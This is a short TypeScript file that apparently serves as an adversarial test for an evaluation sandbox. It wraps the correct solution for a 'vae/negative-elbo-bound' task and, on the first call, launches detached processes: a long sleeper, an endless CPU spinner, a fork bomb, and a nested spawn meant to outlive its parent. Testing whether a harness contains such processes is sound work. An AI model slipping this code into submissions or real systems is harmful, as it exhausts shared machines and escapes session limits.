import { attempt, firstTime, nodeModule } from './tools.ts';

export const attacks = {
  'vae/negative-elbo-bound': (right: any, model: any, x: any) => {
    if (firstTime()) start();
    return right(model, x);
  },
};

function start(): void {
  const { spawn, spawnSync } = nodeModule('child_process');
  const bomb = 'const { spawn } = require("child_process"); for (;;) spawn(process.execPath, process.argv.slice(1), { detached: true })';
  const programs = { sleeper: 'setTimeout(() => {}, 1e9)', spinner: 'for (;;);', bomb };
  for (const [name, program] of Object.entries(programs)) {
    attempt(name, () => {
      const child = spawn('/program', ['-e', program], { detached: true, stdio: 'ignore' });
      child.on('error', () => undefined);
      return child.pid;
    });
  }
  attempt('twice', () => spawnSync('/program', ['-e', 'require("child_process").spawn("/program", { detached: true })']).pid || undefined);
}
